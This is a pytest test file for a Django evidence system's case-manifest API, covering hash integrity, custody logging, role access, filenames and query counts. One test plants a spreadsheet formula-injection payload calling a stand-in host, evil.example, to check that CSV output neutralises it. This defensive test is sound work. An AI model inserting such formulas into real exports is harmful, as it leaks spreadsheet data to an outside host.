"""A case's clips for a prosecutor: a manifest (JSON, CSV, sha256sum listing) whose hashes match the bytes
its links serve, each link an access in the clip's custody."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import timedelta
from urllib.parse import urlsplit

import httpx
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from apps.audit.models import AuditEvent
from tests.footage.records_support import *  # noqa: F403 - the records fixtures
from tests.helpers import api_client, error_code

URL = "/api/v1/cases/{}/manifest"


def _served(url: str) -> bytes:
    parts = urlsplit(url)
    if parts.hostname == "testserver":
        response = api_client().get(parts.path)
        assert response.status_code == 200
        return b"".join(response.streaming_content)
    response = httpx.get(url, timeout=10)
    assert response.status_code == 200
    return response.content


@pytest.fixture
def case(make_clip, officer, other_officer):
    def make(store, number="2025/0815"):
        now = timezone.now()
        clips = [
            make_clip(officer, store=store, case_number=number, started_at=now - timedelta(hours=5)),
            make_clip(other_officer, store=store, case_number=number, started_at=now - timedelta(hours=3)),
            make_clip(officer, case_number=number, state="purged", started_at=now - timedelta(hours=1)),
        ]
        make_clip(officer, store=store, case_number="another")
        return clips

    return make


def _check_manifest(store, case, clerk):
    clips = case(store)
    api = api_client(clerk)
    response = api.get(URL.format("2025/0815"), {"reason": "discovery for DA Smith"})
    assert response.status_code == 200, response.content
    manifest = response.json()
    assert manifest["case_number"] == "2025/0815" and manifest["count"] == 3
    entries = manifest["clips"]
    schemas = api.get("/api/schema/", HTTP_ACCEPT="application/json").json()["components"]["schemas"]
    assert set(manifest) == set(schemas["CaseManifestOut"]["properties"])  # the schema says what comes
    assert all(set(entry) == set(schemas["CaseManifestClip"]["properties"]) for entry in entries)
    assert [e["id"] for e in entries] == [str(c.pk) for c in clips]  # oldest first
    listing = {}
    for line in manifest["sha256sum"].splitlines():
        digest, name = line.split("  ")
        listing[name] = digest
    for entry, clip in zip(entries[:2], clips[:2], strict=True):
        assert entry["sha256"] == clip.sha256 and entry["size_bytes"] == len(clip.data)
        assert entry["officer"] == str(clip.officer_id) and entry["started_at"] and entry["ended_at"]
        served = _served(entry["url"])
        assert hashlib.sha256(served).hexdigest() == entry["sha256"] == listing[entry["filename"]]
    assert entries[2]["state"] == "purged" and entries[2]["url"] is None  # a tombstone is listed, not linked
    assert entries[2]["filename"] not in listing
    for clip in clips[:2]:
        custody = api.get(f"/api/v1/clips/{clip.pk}/custody").json()["results"]
        assert custody[0]["action"] == "clip.access" and custody[0]["detail"]["reason"] == "discovery for DA Smith"
        assert custody[0]["detail"]["via"] == "manifest:2025/0815" and custody[0]["actor"] == str(clerk.pk)
        # rtcc serves the bytes itself (from disk or S3), and records that too
        assert [r["action"] for r in custody[1:]] == ["clip.download"]
        assert all(r["actor"] == str(clerk.pk) for r in custody)  # the download is the clerk's too
    return manifest


def test_manifest_hashes_match_the_bytes_on_disk(case, clerk, rec_disk):
    _check_manifest(rec_disk, case, clerk)


def test_manifest_hashes_match_the_bytes_on_s3(case, clerk, s3):
    _check_manifest(s3, case, clerk)


def test_manifest_as_csv_and_sha256sum(case, clerk, rec_disk):
    clips = case(rec_disk)
    api = api_client(clerk)
    response = api.get(URL.format("2025/0815"), {"reason": "r", "format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["id"] for r in rows] == [str(c.pk) for c in clips]
    assert [r["sha256"] for r in rows] == [c.sha256 for c in clips]
    assert rows[0]["size_bytes"] == str(len(clips[0].data)) and rows[0]["url"].startswith("http")
    # a prosecutor reads who recorded each clip with which camera, not only their ids
    assert rows[0]["officer"] == str(clips[0].officer_id) and rows[0]["officer_name"] == str(clips[0].officer)
    assert (
        rows[0]["device_serial"] == clips[0].device.serial and rows[0]["officer_badge"] == clips[0].officer.badge_number
    )
    response = api.get(URL.format("2025/0815"), {"reason": "r", "format": "sha256"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/plain")
    # the files one can download: the purged clip (no link) would make `sha256sum -c` fail
    assert clips[2].state == "purged"
    assert response.content.decode().splitlines() == [f"{c.sha256}  {c.pk}.mp4" for c in clips[:2]]


MANIFEST_STATUS = {
    "clerk": 200,
    "officer": 403,
    "other_officer": 403,
    "operator": 403,
    "it": 403,
    "superuser": 403,
    "anonymous": 401,
    "device": 403,
}


@pytest.mark.parametrize("who", list(MANIFEST_STATUS))
def test_manifest_by_role(who, caller, case, rec_disk):
    case(rec_disk, number="C-9")
    response = caller(who).get(URL.format("C-9"), {"reason": "court"})
    assert response.status_code == MANIFEST_STATUS[who], response.content
    if response.status_code != 200:
        error_code(response)


@pytest.mark.parametrize(
    "query,status",
    [
        ({}, 400),
        ({"reason": ""}, 400),
        ({"reason": "r", "format": "pdf"}, 400),
        ({"reason": "r", "colour": "red"}, 400),
    ],
)
def test_manifest_bad_input(query, status, clerk, case, rec_disk):
    case(rec_disk, number="C-9")
    response = api_client(clerk).get(URL.format("C-9"), query)
    assert response.status_code == status and error_code(response) == "invalid"


def test_manifest_of_an_unknown_case_is_404(clerk):
    response = api_client(clerk).get(URL.format("NOPE-1"), {"reason": "r"})
    assert response.status_code == 404 and error_code(response) == "not_found"


def test_manifests_of_cases_written_in_other_scripts_download_under_their_own_names(clerk, make_clip, rec_disk):
    """事件-2026-001 and 盗難-2026-001 both came down as case-__-2026-001-manifest.csv."""
    from urllib.parse import unquote

    names = {}
    for case_number in ("事件-2026-001", "盗難-2026-001"):
        make_clip(store=rec_disk, case_number=case_number)
        for kind, suffix in (("csv", "-manifest.csv"), ("sha256", ".sha256")):
            response = api_client(clerk).get(URL.format(case_number), {"reason": "r", "format": kind})
            assert response.status_code == 200
            disposition = response["Content-Disposition"]
            assert disposition.startswith('attachment; filename="case-__-2026-001')  # for old clients
            names[(case_number, kind)] = unquote(disposition.split("filename*=UTF-8''")[1])
            assert names[(case_number, kind)] == f"case-{case_number}{suffix}"
    assert len(set(names.values())) == 4


def test_manifest_csv_never_hands_a_spreadsheet_a_formula(case, clerk, rec_disk, officer):
    officer.full_name, officer.badge_number = '=HYPERLINK("http://evil.example/?"&A1,"open")', "@4711"
    officer.save()
    case(rec_disk)
    response = api_client(clerk).get(URL.format("2025/0815"), {"reason": "r", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    mine = [r for r in rows if r["officer"] == str(officer.pk)]
    assert mine and all(r["officer_name"] == "'" + officer.full_name for r in mine)
    assert all(r["officer_badge"] == "'@4711" for r in mine)
    json_entry = api_client(clerk).get(URL.format("2025/0815"), {"reason": "r"}).json()["clips"][0]
    assert json_entry["officer_name"] == officer.full_name  # the JSON keeps the name as typed


def test_a_manifest_records_its_accesses_in_one_append_whatever_the_case_size(clerk, make_clip, rec_disk):
    # One audit append and one count per clip, each in the manifest's one transaction, moved the
    # chain head and the count's row again at every clip: a case of 4,900 clips took 115 s.
    def statements(number: str, n: int) -> int:
        for _ in range(n):
            make_clip(store=rec_disk, case_number=number)
        with CaptureQueriesContext(connection) as queries:
            response = api_client(clerk).get(URL.format(number), {"reason": "discovery"})
        assert response.status_code == 200 and response.json()["count"] == n
        return len(queries.captured_queries)

    assert statements("C-SMALL", 2) == statements("C-LARGE", 12)
    accesses = AuditEvent.objects.filter(action="clip.access", details__via="manifest:C-LARGE")
    assert accesses.count() == 12 and len({e.object_id for e in accesses}) == 12
    assert all(e.actor_id == str(clerk.pk) and e.details["reason"] == "discovery" for e in accesses)
